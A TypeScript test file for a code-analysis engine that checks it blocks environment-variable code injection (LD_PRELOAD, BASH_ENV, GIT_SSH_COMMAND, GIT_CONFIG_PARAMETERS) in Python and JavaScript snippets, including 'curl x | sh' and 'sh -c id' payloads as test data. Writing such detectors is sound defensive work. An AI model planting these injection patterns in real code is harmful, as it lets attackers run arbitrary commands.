import t from 'tap';
import { isBlocking } from '../../../../plugins/engines/code/index.js';
import { analyzeTypeScript } from '../../../../plugins/engines/code/analyze.js';
import { blockedOverHttp, pick, ruleTable } from '../rule-table.js';

/**
 * Environment variables that make a program started later — one the rules admit as fixed
 * (`subprocess.run(['ls'])`, `execFile('git', ['fetch'])`) — load or run other code, each proven
 * safe (VERIFIED, is_valid true, ADMIT) before in Python, and in JavaScript for all but NODE_OPTIONS:
 * the loader's preloads, interpreter start-up options and files, shell start-up files, commands git
 * runs and git configuration injected through the environment.
 */
const PY_UNSAFE: Array<[name: string, src: string, rule: string]> = [
  ['NODE_OPTIONS --require', "import os, subprocess\nos.environ['NODE_OPTIONS'] = '--require /tmp/hook.js'\nsubprocess.run(['npm', 'test'])\n", 'python.process.node_options'],
  ['LD_PRELOAD', "import os, subprocess\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nsubprocess.run(['ls'])\n", 'python.process.env_hook'],
  ['os.putenv', "import os\nos.putenv('LD_PRELOAD', '/tmp/x.so')\n", 'python.process.env_hook'],
  ['os.environ.update', "import os\nos.environ.update({'LD_PRELOAD': '/tmp/x.so'})\n", 'python.process.env_hook'],
  ['os.environ.update keyword', "import os\nos.environ.update(BASH_ENV='/tmp/x.sh')\n", 'python.process.env_hook'],
  ['os.environ.setdefault', "from os import environ\nenviron.setdefault('LD_AUDIT', lib)\n", 'python.process.env_hook'],
  ['os.environ |=', "import os\nos.environ |= {'PYTHONSTARTUP': '/tmp/s.py'}\n", 'python.process.env_hook'],
  ['env= for subprocess', "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'LD_PRELOAD': '/tmp/x.so'})\n", 'python.process.env_hook'],
  ['dict(os.environ, …) for os.execve', "import os\nos.execve('/usr/bin/make', ['make'], dict(os.environ, BASH_ENV=path))\n", 'python.process.env_hook'],
  ['PYTHONSTARTUP', "import os\nos.environ['PYTHONSTARTUP'] = '/tmp/x.py'\n", 'python.process.env_hook'],
  ['BASH_ENV through an alias', "import os as o\nenv = o.environ\nenv['BASH_ENV'] = '/tmp/x.sh'\n", 'python.process.env_hook'],
  ['ENV as a file', "import os\nos.environ['ENV'] = '/tmp/x.sh'\n", 'python.process.env_hook'],
  ['PROMPT_COMMAND', "import os\nos.environ['PROMPT_COMMAND'] = 'curl -s x | sh'\n", 'python.process.env_hook'],
  ['PERL5OPT -M', "import os, subprocess\nos.environ['PERL5OPT'] = '-Mevil'\nsubprocess.run(['cpanm', 'Foo'])\n", 'python.process.env_hook'],
  ['RUBYOPT -r', "import os\nos.environ['RUBYOPT'] = '-r/tmp/x.rb'\n", 'python.process.env_hook'],
  ['GIT_SSH_COMMAND a shell', "import os, subprocess\nos.environ['GIT_SSH_COMMAND'] = 'sh -c id'\nsubprocess.run(['git', 'fetch'])\n", 'python.process.env_hook'],
  ['GIT_SSH_COMMAND shell syntax', "import os\nos.environ['GIT_SSH_COMMAND'] = 'ssh $(id)'\n", 'python.process.env_hook'],
  ['GIT_ASKPASS computed', "import os\nos.environ['GIT_ASKPASS'] = helper\n", 'python.process.env_hook'],
  ['GIT_CONFIG_PARAMETERS', "import os\nos.environ['GIT_CONFIG_PARAMETERS'] = \"'core.fsmonitor=touch /tmp/pwn'\"\n", 'python.process.env_hook'],
  ['GIT_CONFIG_KEY_0', "import os\nos.environ['GIT_CONFIG_COUNT'] = '1'\nos.environ['GIT_CONFIG_KEY_0'] = 'core.sshCommand'\nos.environ['GIT_CONFIG_VALUE_0'] = 'sh -c id'\n", 'python.process.env_hook'],
];

const PY_SAFE: Array<[name: string, src: string]> = [
  ['LANG, TZ, HOME and an application variable', "import os\nos.environ['LANG'] = 'C.UTF-8'\nos.environ['TZ'] = 'UTC'\nos.environ['HOME'] = '/srv/app'\nos.environ['APP_MODE'] = 'prod'\nos.environ.update({'DJANGO_SETTINGS_MODULE': 'site.settings'})\n"],
  ['ENV as an application setting', "import os\nos.environ['ENV'] = 'production'\nos.environ['ENV'] = settings.env_name\n"],
  ['a .env loader (computed names)', "import os\nfor k, v in pairs:\n    os.environ[k] = v\n"],
  ['search paths (PATH, PYTHONPATH)', "import os, subprocess\nos.environ['PATH'] = venv + '/bin:' + os.environ['PATH']\nos.environ['PYTHONPATH'] = 'src'\nsubprocess.run(['pytest'])\n"],
  ['hook variables read, removed, cleared', "import os\nprint(os.environ.get('LD_PRELOAD'), 'BASH_ENV' in os.environ)\nos.environ.pop('LD_PRELOAD', None)\ndel os.environ['NODE_OPTIONS']\nos.environ['GIT_ASKPASS'] = ''\n"],
  ['harmless options', "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096'\nos.environ['PERL5OPT'] = '-w'\nos.environ['RUBYOPT'] = '-W0'\n"],
  ['GIT_SSH_COMMAND with a key', "import os, subprocess\nos.environ['GIT_SSH_COMMAND'] = 'ssh -i /etc/deploy/key -o IdentitiesOnly=yes'\nos.environ['GIT_TERMINAL_PROMPT'] = '0'\nsubprocess.run(['git', 'pull'])\n"],
  ['git identity through GIT_CONFIG', "import os\nos.environ['GIT_CONFIG_KEY_0'] = 'user.name'\nos.environ['GIT_CONFIG_PARAMETERS'] = \"'user.email=ci@example.com'\"\n"],
];

const JS_UNSAFE: Array<[name: string, src: string, rule: string]> = [
  ['LD_PRELOAD in a spawn environment', "const { execFile } = require('child_process');\nexecFile('ls', [], { env: { ...process.env, LD_PRELOAD: '/tmp/x.so' } });\n", 'javascript.process.env_hook'],
  ['process.env.LD_PRELOAD', "process.env.LD_PRELOAD = '/tmp/x.so';\nrequire('child_process').execFileSync('ls');\n", 'javascript.process.env_hook'],
  ["process.env['BASH_ENV']", "process.env['BASH_ENV'] = '/tmp/x.sh';\n", 'javascript.process.env_hook'],
  ['Object.assign(process.env, …)', "Object.assign(process.env, { DYLD_INSERT_LIBRARIES: lib });\n", 'javascript.process.env_hook'],
  ['GIT_SSH_COMMAND a shell', "process.env.GIT_SSH_COMMAND = 'bash -c \"curl x | sh\"';\nrequire('child_process').execFileSync('git', ['fetch']);\n", 'javascript.process.env_hook'],
  ['GIT_CONFIG_PARAMETERS', "require('child_process').execFileSync('git', ['status'], { env: { GIT_CONFIG_PARAMETERS: \"'core.fsmonitor'='touch /tmp/pwn'\" } });\n", 'javascript.process.env_hook'],
];

const JS_SAFE: Array<[name: string, src: string]> = [
  ['LANG, TZ and an application variable', "process.env.LANG = 'C.UTF-8';\nprocess.env.TZ = 'UTC';\nprocess.env.APP_MODE = 'prod';\nconst config = { ENV: 'production', PATH: '/usr/bin' };\n"],
  ['GIT_SSH_COMMAND with a key', "require('child_process').execFileSync('git', ['pull'], { env: { ...process.env, GIT_SSH_COMMAND: 'ssh -i deploy_key', GIT_TERMINAL_PROMPT: '0' } });\n"],
  ['a .env loader', 'for (const [k, v] of Object.entries(parsed)) process.env[k] = v;\n'],
];

ruleTable('python: environment variables that load code in later programs', 'python', PY_UNSAFE, PY_SAFE);

ruleTable('javascript: environment variables that load code in later programs', 'javascript', JS_UNSAFE, JS_SAFE);

t.test('javascript: environment variables that load code in later programs: TypeScript takes the same path', async (t) => {
  const ts = analyzeTypeScript("const lib: string = '/tmp/x.so';\nprocess.env.LD_PRELOAD = lib;\n");
  t.ok(ts.findings.some((f) => f.rule_id === 'typescript.process.env_hook' && isBlocking(f)), 'TypeScript takes the same path');
});

blockedOverHttp(
  'POST /verify/code answers BLOCKED admission for both languages',
  [...pick(PY_UNSAFE, ['LD_PRELOAD', 'env= for subprocess', 'GIT_SSH_COMMAND a shell'], 'python'), ...pick(JS_UNSAFE, ['LD_PRELOAD in a spawn environment', 'process.env.LD_PRELOAD'], 'javascript')],
  pick(PY_SAFE, [PY_SAFE[0][0]], 'python'),
);
